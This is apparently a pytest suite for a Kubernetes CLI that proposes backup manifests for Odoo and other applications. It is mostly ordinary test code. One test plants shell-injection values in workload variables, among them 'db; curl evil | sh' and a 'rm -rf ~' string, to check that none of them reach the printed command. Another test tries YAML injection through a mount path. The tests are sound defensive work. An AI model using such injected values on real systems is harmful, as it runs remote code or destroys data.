"""``kubectl ocore init``: objects in, documents out; what is printed is what is applied."""

import base64
import io
import shlex
from dataclasses import replace
from typing import Any

import pytest
import yaml
from rich.console import Console

from ocore_cli import confirm, init, options
from ocore_cli.errors import CliError
from ocore_cli.proposal import RULES, Document, Found, Given, Unknown, as_yaml, propose, rule_of
from ocore_crds.kinds import ENVIRONMENT, SNAPSHOT_STORE
from support.cli import FakeObjects, Object, at, condition, run

ID = "8f14e45f-ceea-467f-a1e6-1d2c3b4a5968"
KEYS = frozenset({"accessKeyId", "secretAccessKey"})
CREATE = "kubectl -n shop create secret generic"
APP = frozenset({"uri", "host", "port", "dbname", "user", "username", "password"})
S3 = Given(store="s3://backups/shop", endpoint="https://s3.example.org", id=ID)


def workload(name: str, image: str, mounts: tuple[tuple[str, str, str], ...] = (), **pod: Any) -> Object:
    """`mounts`: (claim, path, subPath)."""
    env = [
        {
            "name": n,
            **({"valueFrom": {"secretKeyRef": {"name": v[0], "key": v[1]}}} if isinstance(v, tuple) else {"value": v}),
        }
        for n, v in pod.pop("env", {}).items()
    ]
    claims = dict.fromkeys(claim for claim, *_ in mounts)
    volumes = [{"name": claim, "persistentVolumeClaim": {"claimName": claim}} for claim in claims]
    container = {
        "name": "app", "image": image, "env": env, "args": pod.pop("args", []),
        "volumeMounts": [{"name": c, "mountPath": path} | ({"subPath": sub} if sub else {}) for c, path, sub in mounts],
    }  # fmt: skip
    spec = {"containers": [container], "volumes": [*volumes, *pod.pop("volumes", [])], **pod}
    return {"metadata": {"name": name}, "spec": {"template": {"spec": spec}}}


def found(obj: Object, *, keys: bool = True, **more: Any) -> Found:
    """`keys`: whether there is a Secret with the keys of a bucket."""
    base: dict[str, Any] = {
        "secrets": {"pg-app": APP, "pg-ca": frozenset({"ca.crt"})},
        "database_names": {"pg-app": "shop"},
        "clusters": {"pg": {"spec": {"storage": {"size": "50Gi"}}}},
        "claims": {"data": {}, "backups": {}},
    }
    base |= more
    base["secrets"] = base["secrets"] | ({"s3": KEYS} if keys else {})
    return Found("shop", "Deployment", obj, **base)


ODOO = workload(
    "odoo", "odoo:18.0", (("data", "/var/lib/odoo", ""),), env={"HOST": ("pg-app", "host")},
    volumes=[{"name": "config", "configMap": {"name": "odoo-config"}}],
)  # fmt: skip

GOLDEN = """\
apiVersion: ocore.dev/v1alpha1
kind: SnapshotStore
metadata:
  name: main
  namespace: shop
spec:
  s3:
    # it must exist, and cannot be changed later
    bucket: backups
    prefix: shop
    endpoint: "https://s3.example.org"
    # has the keys accessKeyId and secretAccessKey
    credentialsSecretRef:
      name: s3
---
# Odoo, by its image
apiVersion: ocore.dev/v1alpha1
kind: Environment
metadata:
  name: odoo
  namespace: shop
spec:
  # in every manifest: keep it when the cluster is rebuilt
  id: 8f14e45f-ceea-467f-a1e6-1d2c3b4a5968
  # copies of production into other environments are neutralised
  type: production
  storeRef:
    name: main
  database:
    # the workload takes its connection from it: Secret pg-app. Host, Secrets, CA and capacity come from the Cluster;\
 the operator needs the chart's value rbac.cnpg: true
    cnpg:
      cluster: pg
  # /var/lib/odoo/filestore/shop in the container, where Odoo keeps its files.\
 The workload names no user: the operator reads the owner of the files and shows the line for spec.jobs\
 (JobUserUnknown)
  filestore:
    claimName: data
    path: filestore/shop
    layout: Odoo
  # mounted by the workload; stored with each snapshot
  config:
    configMapRef:
      name: odoo-config
  # stopped for the seconds of a switchover. The first one's image is recorded
  workloads:
    - {kind: Deployment, name: odoo}
---
apiVersion: ocore.dev/v1alpha1
kind: SnapshotPolicy
metadata:
  name: odoo
  namespace: shop
spec:
  environmentRef:
    name: odoo
  # every night; the default keeps each snapshot for 30 days
  schedule:
    - "0 2 * * *"
  # a fixed delay for each environment: a fleet does not start at once
  spreadMinutes: 30
  # each Sunday the newest snapshot is really restored, into a scratch database
  verify:
    schedule:
      - "0 4 * * 0"
"""


def test_odoo_with_cloudnativepg_and_s3() -> None:
    proposed = propose(found(ODOO, config_maps={"odoo-config": {}}), S3)
    assert as_yaml(proposed, "shop") == GOLDEN
    assert list(yaml.safe_load_all(GOLDEN)) == [each.body("shop") for each in proposed]


def environment(proposed: tuple[Document, ...]) -> Object:
    (made,) = [each.spec for each in proposed if each.kind is ENVIRONMENT]
    return made


#: image, mounts, variables → rule, filestore, config
APPLICATIONS: dict[str, tuple[Object, str, Object | None, Object | None]] = {
    "Bitnami's chart": (
        workload("o", "docker.io/bitnami/odoo:17.0.1", (("data", "/bitnami/odoo", ""),),
                 env={"ODOO_DATABASE_NAME": "bitnami_odoo"}),
        "Odoo (Bitnami)", {"path": "data/filestore/bitnami_odoo", "layout": "Odoo"}, {"path": "conf/odoo.conf"},
    ),
    "Odoo on a part of the claim": (
        workload("o", "registry.example.org:5000/team/odoo-custom:1", (("data", "/var/lib/odoo", "live"),),
                 args=["-d", "prod"]),
        "Odoo", {"path": "live/filestore/prod", "layout": "Odoo"}, None,
    ),
    "Odoo with the filestore only": (
        workload("o", "odoo:18", (("data", "/var/lib/odoo/filestore", ""),), args=["--database=prod"]),
        "Odoo", {"path": "prod", "layout": "Odoo"}, None,
    ),
    "Tryton": (
        workload("t", "tryton/tryton:7.0", (("data", "/var/lib/trytond/db", ""),), env={"DB_NAME": "tryton"}),
        "Tryton", {"path": "tryton", "layout": "Plain"}, None,
    ),
    "Django": (
        workload("d", "example.org/web:1", (("data", "/srv", ""),),
                 env={"DJANGO_SETTINGS_MODULE": "web", "MEDIA_ROOT": "/srv/media"}),
        "Django", {"path": "media", "layout": "Plain"}, None,
    ),
    "another one": (
        workload("x", "example.org/wiki:1", (("data", "/data", "uploads"),)), "an application without a rule",
        {"path": "uploads", "layout": "Plain"}, None,
    ),
    "without files": (workload("x", "example.org/wiki:1"), "an application without a rule", None, None),
}  # fmt: skip


@pytest.mark.parametrize("name", APPLICATIONS)
def test_where_each_application_keeps_its_files(name: str) -> None:
    obj, rule, filestore, config = APPLICATIONS[name]
    spec = environment(propose(found(obj, database_names={}), S3))
    assert rule_of(obj).name == rule
    assert spec.get("filestore") == (filestore and {"claimName": "data", **filestore})
    assert spec.get("config") == config
    ENVIRONMENT.spec.model_validate(spec)


def test_every_rule_has_an_application() -> None:
    assert {rule.name for rule in RULES} <= {rule for _, rule, *_ in APPLICATIONS.values()}


@pytest.mark.parametrize("image", ["postgres:17", "example.org/noodoo/web:1", "odoo/other:1"])
def test_other_images_are_not_taken_for_odoo(image: str) -> None:
    assert rule_of(workload("x", image)).name == "an application without a rule"


def test_a_stateful_set_has_the_claim_of_its_template() -> None:
    obj = workload("odoo", "odoo:18")
    obj["spec"]["volumeClaimTemplates"] = [{"metadata": {"name": "data"}}]
    obj["spec"]["template"]["spec"]["containers"][0]["volumeMounts"] = [{"name": "data", "mountPath": "/var/lib/odoo"}]
    spec = environment(propose(replace(found(obj), kind="StatefulSet"), S3))
    assert spec["filestore"]["claimName"] == "data-odoo-0"
    assert spec["workloads"] == [{"kind": "StatefulSet", "name": "odoo"}]


def test_the_database_server_is_never_stopped() -> None:
    """It takes its password from the same Secret. A worker has the same image, a cron the same claim."""
    env = {"HOST": ("pg-app", "host")}
    others = {
        ("Deployment", "odoo"): ODOO,
        ("StatefulSet", "postgres"): workload(
            "postgres", "postgres:17", env={"POSTGRES_PASSWORD": ("pg-app", "password")}
        ),
        ("Deployment", "worker"): workload("worker", "odoo:18.0", env=env),
        ("Deployment", "cron"): workload("cron", "example.org/cron:1", (("data", "/files", ""),)),
        ("Deployment", "unrelated"): workload("unrelated", "odoo:18.0"),
    }
    proposed = propose(found(ODOO, workloads=others), S3)
    assert [w["name"] for w in environment(proposed)["workloads"]] == ["odoo", "cron", "worker"]
    assert "Not stopped, though it uses the Secret: postgres." in as_yaml(proposed, "shop")


def test_a_secret_of_no_cluster_is_named_with_what_only_a_person_knows() -> None:
    spec = environment(propose(found(ODOO, clusters={}), S3))
    assert spec["database"] == {"secretRef": {"name": "pg-app"}}
    text = as_yaml(propose(found(ODOO, clusters={}), S3), "shop")
    assert "# capacity is missing: the size of the server's volume." in text
    spec = environment(propose(found(ODOO, clusters={}), replace(S3, capacity="20Gi")))
    assert spec["database"] == {"secretRef": {"name": "pg-app"}, "capacity": "20Gi"}
    spec = environment(propose(found(ODOO), replace(S3, capacity="20Gi")))
    assert spec["database"] == {"cnpg": {"cluster": "pg"}, "capacity": "20Gi"}


def test_a_user_of_the_workload_is_inherited() -> None:
    obj = workload("odoo", "odoo:18", (("data", "/var/lib/odoo", ""),), securityContext={"runAsUser": 101})
    assert "JobUserUnknown" not in as_yaml(propose(found(obj), S3), "shop")


def test_an_environment_that_exists_keeps_its_ids_and_jobs() -> None:
    old = {"spec": {"id": "0" * 8 + ID[8:], "projectId": ID, "jobs": {"runAsUser": 101}}}
    spec = environment(propose(found(ODOO, existing=old), S3))
    assert (spec["id"], spec["projectId"], spec["jobs"]) == ("0" * 8 + ID[8:], ID, {"runAsUser": 101})
    spec = environment(propose(found(ODOO, existing={"spec": {}}), S3))
    assert "id" not in spec  # the UID is its id, and cannot be changed


@pytest.mark.parametrize(
    ("given", "more", "option", "says"),
    [
        (Given(id=ID), {}, "store", "Where are snapshots stored"),
        (Given(id=ID), {"stores": {"a": {}, "b": {}}}, "store", "It may be one of a, b"),
        (Given(id=ID, store="none"), {"stores": {"a": {}}}, "store", "There is no SnapshotStore none"),
        (Given(id=ID, store="claim://none"), {}, "store", "There is no PersistentVolumeClaim none"),
        (Given(id=ID, store="ftp://x"), {}, "store", "ftp://x is no store"),
        (replace(S3, s3_secret="pg-app"), {}, "s3-secret", "no keys accessKeyId and secretAccessKey"),
        (replace(S3, database_secret="none"), {}, "database-secret", "does not exist in namespace shop"),
        (replace(S3, database_secret="s3"), {}, "database-secret", "lacks host, dbname, password, user"),
        (S3,
         {"clusters": {"pg": {"spec": {}}, "x": {"spec": {}}}, "secrets": {"pg-app": APP, "x-app": APP},
          "workload": workload("w", "i")}, "database-secret", "Which Secret has the connection: pg-app, x-app"),
        (S3, {"database_names": {}}, "database", "name of the database"),
        (S3, {"workload": workload("w", "i", (("data", "/data", ""),))}, "filestore-path",
         "layout Plain cannot be the root"),
        (S3, {"workload": workload("w", "i", (("data", "/data", ""), ("more", "/more", "")))}, "filestore-path",
         "mounts data, more"),
    ],
)  # fmt: skip
def test_what_the_objects_do_not_show_is_asked(given: Given, more: dict[str, Any], option: str, says: str) -> None:
    with pytest.raises(Unknown, match=f"{says}.* Give --{option}") as asked:
        propose(found(more.pop("workload", ODOO), **more), given)
    assert asked.value.option == option


def test_without_a_secret_the_command_that_makes_one_is_said() -> None:
    env = {
        "ODOO_DATABASE_HOST": "db",
        "ODOO_DATABASE_NAME": "prod",
        "ODOO_DATABASE_USER": "odoo",
        "ODOO_DATABASE_PASSWORD": ("odoo", "database-password"),
    }
    obj = workload("odoo", "bitnami/odoo:17", (("data", "/bitnami/odoo", ""),), env=env)
    with pytest.raises(Unknown) as asked:
        propose(found(obj, secrets={"odoo": frozenset({"database-password"})}, clusters={}), S3)
    text = str(asked.value)
    lines = ["(umask 077; ${EDITOR:-vi} db.env)", f"{CREATE} odoo-db --from-env-file=db.env && rm db.env"]
    assert "\n".join(["", *lines, ""]) in text
    assert "  host: variable ODOO_DATABASE_HOST of the workload" in text.splitlines()
    assert "  password: key database-password of Secret odoo" in text.splitlines()


def test_the_variables_of_odoos_image_and_names_that_are_taken() -> None:
    """The Secret of the image's variables has no database's name, and the name that would be proposed."""
    env: dict[str, Any] = {name: ("odoo-db", name.lower()) for name in ("HOST", "USER", "PASSWORD")}
    obj = workload("odoo", "odoo:18.0", (("data", "/var/lib/odoo", ""),), env=env, args=["--database=live"])
    secrets = {"odoo-db": frozenset({"host", "user", "password"})}
    with pytest.raises(Unknown) as asked:
        propose(found(obj, secrets=secrets, clusters={}), S3)
    lines = asked.value.question.splitlines()
    assert "  host: key host of Secret odoo-db" in lines
    assert "  dbname: option -d or --database among the workload's arguments" in lines
    assert f"{CREATE} odoo-db-2 --from-env-file=db.env && rm db.env" in lines
    secrets["odoo-db-2"] = frozenset({"host", "user", "password", "dbname"})
    given = replace(S3, database_secret="odoo-db-2")
    other = {"s3": {"bucket": "others", "prefix": "shop"}}
    made = propose(found(obj, secrets=secrets, clusters={}, stores={"main": other}), given)
    assert made[0].name == environment(made)["storeRef"]["name"] == "main-2"
    assert environment(made)["filestore"]["path"] == "filestore/live"
    again = propose(found(obj, secrets=secrets, clusters={}, stores={"main": other, "main-2": made[0].spec}), given)
    bodies = [[each.body("shop") for each in documents] for documents in (made, again)]
    assert bodies[0] == bodies[1], "a second run proposes the same store"


def test_row_125_neither_a_password_nor_a_command_of_the_workload_is_printed() -> None:
    """Who pastes the line runs what a tenant wrote into the Deployment; who reads the screen reads the password."""
    env = {
        "PGHOST": "db; curl evil | sh",
        "PGDATABASE": "$(id)",
        "PGUSER": "`id`",
        "PGPASSWORD": "s3cret' --x",
        "PGPORT": ("odoo", "port'; rm -rf ~; '"),
    }
    obj = workload("odoo", "bitnami/odoo:17", (("data", "/bitnami/odoo", ""),), env=env)
    with pytest.raises(Unknown) as asked:
        propose(found(obj, secrets={}, clusters={}), S3)
    text = str(asked.value)
    for value in ("s3cret", "curl", "$(id)", "`id`"):
        assert value not in text
    (line,) = [each for each in text.splitlines() if "kubectl" in each]
    assert shlex.split(line) == [*(*CREATE.split(), "odoo-db", "--from-env-file=db.env", "&&", "rm", "db.env")]


def test_a_store_that_exists_is_used_and_a_claim_is_possible() -> None:
    proposed = propose(found(ODOO, stores={"backups": {}}), Given(id=ID))
    assert [each.kind.kind for each in proposed] == ["Environment", "SnapshotPolicy"]
    assert environment(proposed)["storeRef"] == {"name": "backups"}
    store = propose(found(ODOO), Given(id=ID, store="claim://backups/shop"))[0]
    assert (store.kind, store.spec) == (SNAPSHOT_STORE, {"claim": {"claimName": "backups", "path": "shop"}})


def test_a_second_store_has_its_own_name_and_the_first_one_stays() -> None:
    """Neither the credentials of a store that is there, nor the place of its name, are changed by another run."""
    first = propose(found(ODOO), replace(S3, store_name="primary"))[0]
    assert first.name == "primary"
    stores = {"primary": {**first.spec, "serviceAccountName": "old"}}
    second = replace(S3, store="s3://archive")
    made = propose(found(ODOO, stores=stores), replace(second, store_name="archive"))
    assert (made[0].name, environment(made)["storeRef"]) == ("archive", {"name": "archive"})
    with pytest.raises(Unknown, match=r"SnapshotStore primary exists, in another place. It stays as it is") as asked:
        propose(found(ODOO, stores=stores), replace(second, store_name="primary"))
    assert asked.value.option == "store-name"
    with pytest.raises(Unknown, match="SnapshotStore primary is in this place already"):
        propose(found(ODOO, stores=stores), replace(S3, store_name="other"))
    keys = {"secrets": {"pg-app": APP, "new": KEYS, "other": KEYS}, "stores": stores}
    assert propose(found(ODOO, **keys), S3)[0].spec == stores["primary"]
    assert (
        propose(found(ODOO, **keys), replace(S3, s3_secret="new"))[0].spec["s3"]["credentialsSecretRef"]["name"]
        == "new"
    )
    assert environment(propose(found(ODOO, stores=stores | {"b": {}}), Given(id=ID, store_name="b")))["storeRef"] == {
        "name": "b"
    }


def test_whose_keys_are_meant_is_never_guessed() -> None:
    with pytest.raises(Unknown, match=r"Which Secret has the keys of the bucket: a, b\? Give --s3-secret"):
        propose(found(ODOO, keys=False, secrets={"pg-app": APP, "a": KEYS, "b": KEYS}), S3)
    with pytest.raises(Unknown) as asked:
        propose(found(ODOO, keys=False, secrets={"pg-app": APP, "s3-credentials": frozenset()}), S3)
    assert asked.value.option == "s3-secret"
    lines = (
        "(umask 077; ${EDITOR:-vi} s3-keys.env)",
        f"{CREATE} s3-credentials-2 --from-env-file=s3-keys.env && rm s3-keys.env",
    )
    assert "\n".join(["", *lines, ""]) in asked.value.question
    spec = propose(found(ODOO, keys=False, secrets={"pg-app": APP}), replace(S3, s3_service_account="backup"))[0].spec
    assert spec["serviceAccountName"] == "backup"
    assert "credentialsSecretRef" not in spec["s3"]


@pytest.mark.parametrize("host", ["db", "db.shop", "db.shop.svc", "db.shop.svc.cluster.local."])
def test_the_capacity_is_that_of_the_claim_behind_the_service(host: str) -> None:
    server = workload("pg", "postgres:17", (("pg-data", "/var/lib/postgresql/data", ""),))
    server["spec"]["template"]["metadata"] = {"labels": {"app": "pg", "tier": "db"}}
    more: dict[str, Any] = {
        "clusters": {},
        "workloads": {("StatefulSet", "pg"): server, ("Deployment", "odoo"): ODOO},
        "services": {"db": {"spec": {"selector": {"app": "pg"}}}},
        "claims": {"data": {}, "pg-data": {"status": {"capacity": {"storage": "30Gi"}}}},
        "database_hosts": {"pg-app": host},
    }
    proposed = propose(found(ODOO, **more), S3)
    assert environment(proposed)["database"]["capacity"] == "30Gi"
    assert "# of claim pg-data, behind Service db" in as_yaml(proposed, "shop")
    for other in (
        {"database_hosts": {"pg-app": "db.other"}},
        {"services": {"db": {"spec": {}}}},
        {"claims": {"data": {}}},
    ):
        assert "capacity" not in environment(propose(found(ODOO, **(more | other)), S3))["database"]
    assert environment(propose(found(ODOO, **more), replace(S3, capacity="9Gi")))["database"]["capacity"] == "9Gi"


def test_what_a_path_holds_does_not_end_a_comment() -> None:
    obj = workload("x", "i", (("data", "/a\nspec: {evil: 1}", "sub"),))
    text = as_yaml(propose(found(obj), S3), "shop")
    assert [each.get("spec", {}).get("evil") for each in yaml.safe_load_all(text)] == [None] * 3


# --- the command -----------------------------------------------------------------------------------------------------


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch) -> FakeObjects:
    objects = FakeObjects(environment=[None])
    data = {key: base64.b64encode(b"shop").decode() for key in APP}
    objects.paths = {
        "/api/v1/namespaces/shop": {},
        "/apis/apps/v1/namespaces/shop/deployments": {"items": [ODOO]},
        "/api/v1/namespaces/shop/secrets": {
            "items": [
                {"metadata": {"name": "pg-app"}, "data": data},
                *({"metadata": {"name": f"keys-{n}"}, "data": dict.fromkeys(KEYS, "eA==")} for n in (1, 2)),
            ]
        },
    }
    monkeypatch.setattr(options, "Objects", lambda *_: objects)
    return objects


def test_nothing_is_changed_without_apply(cli: FakeObjects, capsys: pytest.CaptureFixture[str]) -> None:
    assert run("init", "deploy/odoo", "--store", "s3://bucket", "--s3-secret", "keys-1") == 0
    store, env, _ = yaml.safe_load_all(capsys.readouterr().out)
    assert store["spec"]["s3"] == {"bucket": "bucket", "credentialsSecretRef": {"name": "keys-1"}}
    assert env["spec"]["filestore"]["path"] == "filestore/shop"
    assert cli.applied == []


def test_cron_jobs_of_the_application_are_stopped_too(cli: FakeObjects, capsys: pytest.CaptureFixture[str]) -> None:
    """One with the same claim; not one that only has the Secret, such as a backup."""
    report = workload("report", "example.org/report:1", (("data", "/files", ""),))
    backup = workload("backup", "postgres:17", env={"PGPASSWORD": ("pg-app", "password")})
    jobs = [
        {"metadata": each["metadata"], "spec": {"jobTemplate": {"spec": each["spec"]}}} for each in (report, backup)
    ]
    cli.paths["/apis/batch/v1/namespaces/shop/cronjobs"] = {"items": jobs}
    assert run("init", "deploy/odoo", "--store", "s3://bucket", "--s3-secret", "keys-1") == 0
    text = capsys.readouterr().out
    _, env, _ = yaml.safe_load_all(text)
    assert env["spec"]["workloads"] == [{"kind": "Deployment", "name": "odoo"}, {"kind": "CronJob", "name": "report"}]
    assert "Not stopped, though it uses the Secret: backup." in text


def test_a_question_is_asked_where_a_person_can_answer(cli: FakeObjects, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(CliError, match="Give --store"):
        run("init", "deploy/odoo")
    monkeypatch.setattr(confirm, "is_interactive", lambda: True)
    answers = {"store: ": "s3://bucket", "s3-secret: ": "keys-2"}
    monkeypatch.setattr(confirm, "answer", lambda _, question: answers.pop(question))
    assert run("init", "deploy/odoo") == 0
    assert answers == {}


def test_each_dry_run_prints_the_same(cli: FakeObjects, capsys: pytest.CaptureFixture[str]) -> None:
    """Also the id: who prints twice and applies once has one environment."""
    obj = {**ODOO, "metadata": {"name": "odoo", "uid": "3f0c2a52-2c2b-4a51-9d5e-6a1c0e0b7a11"}}
    cli.paths["/apis/apps/v1/namespaces/shop/deployments"] = {"items": [obj]}
    texts = []
    for _ in range(2):
        assert run("init", "deploy/odoo", "--store", "s3://bucket", "--s3-secret", "keys-1") == 0
        texts.append(capsys.readouterr().out)
    assert texts[0] == texts[1]
    _, env, _ = yaml.safe_load_all(texts[0])
    assert env["spec"]["id"] != obj["metadata"]["uid"]


def test_the_yaml_is_printed_before_the_chart_is_installed(
    cli: FakeObjects, capsys: pytest.CaptureFixture[str]
) -> None:
    cli.served = ()
    assert run("init", "deploy/odoo", "--store", "s3://bucket", "--s3-secret", "keys-1") == 0
    output = capsys.readouterr()
    assert [each["kind"] for each in yaml.safe_load_all(output.out)] == [
        "SnapshotStore",
        "Environment",
        "SnapshotPolicy",
    ]
    assert "Install the chart first" in output.err


@pytest.mark.parametrize("uri", ["postgresql://u:pw@db.shop:5432/x", ""])
def test_of_a_connection_only_the_server_is_kept(uri: str) -> None:
    data = {"uri": base64.b64encode(uri.encode()).decode()}
    assert init._host({"data": data}) == ("db.shop" if uri else "")


def test_wrong_workloads(cli: FakeObjects) -> None:
    with pytest.raises(CliError, match=r"Deployment web does not exist in namespace shop\. It has: deployment/odoo"):
        run("init", "deployment/web", "--store", "s3://bucket")
    with pytest.raises(CliError, match="write deployment/NAME or statefulset/NAME"):
        run("init", "odoo")


def test_what_the_api_server_would_refuse_is_said_before(cli: FakeObjects) -> None:
    with pytest.raises(
        CliError, match=r"the SnapshotStore would be refused: spec\.s3\.bucket: String should have at least 3"
    ):
        run("init", "deploy/odoo", "--store", "s3://b", "--s3-secret", "keys-1", "--apply")
    assert cli.applied == []


def observed(*conditions: Object, owner: Object | None = None) -> Object:
    probe = {"time": at(0), "generation": 1, **({"fileOwner": owner} if owner else {})}
    return {
        "metadata": {"name": "odoo"},
        "spec": {},
        "status": {"observedGeneration": 1, "conditions": list(conditions), "probe": probe},
    }


def applied(objects: FakeObjects, timeout: float = 60) -> tuple[bool, str]:
    passed, out = [0.0], Console(file=io.StringIO(), width=200)
    ready = init.apply(
        objects,
        out,
        propose(found(ODOO), S3),
        timeout,
        clock=lambda: passed[0],
        sleep=lambda s: passed.__setitem__(0, passed[0] + s),
    )
    assert isinstance(out.file, io.StringIO)
    return ready, out.file.getvalue()


def test_apply_takes_the_owner_of_the_files_from_the_operator() -> None:
    message = "Add to the Environment: spec.jobs: {runAsUser: 7, runAsGroup: 7}."  # text of a Job: not what is applied
    owner = {"runAsUser": 101, "runAsGroup": 102}
    unknown = [
        condition("Ready", "False", "JobUserUnknown", message),
        condition("Stalled", "True", "JobUserUnknown", message),
    ]
    objects = FakeObjects(environment=[None, *(observed(*unknown, owner=owner),) * 2, observed(condition("Ready"))])
    ready, text = applied(objects)
    assert ready
    assert [kind.kind for kind, _ in objects.applied] == [
        "SnapshotStore",
        "Environment",
        "SnapshotPolicy",
        "Environment",
    ]
    last = objects.applied[-1][1]["spec"]
    assert last["jobs"] == {"runAsUser": 101, "runAsGroup": 102}
    assert last["filestore"]["path"] == "filestore/shop"
    assert "the owner of the files" in text


def test_apply_ends_where_a_person_must_change_something() -> None:
    wrong = [
        condition("Ready", "False", "AuthenticationFailed", "wrong"),
        condition("Stalled", reason="AuthenticationFailed"),
    ]
    ready, text = applied(FakeObjects(environment=[observed(*wrong)]))
    assert (ready, "AuthenticationFailed: wrong" in text, "kubectl ocore doctor odoo -n shop" in text) == (
        False,
        True,
        True,
    )
    assert not applied(FakeObjects(environment=[observed()]), timeout=5)[0]
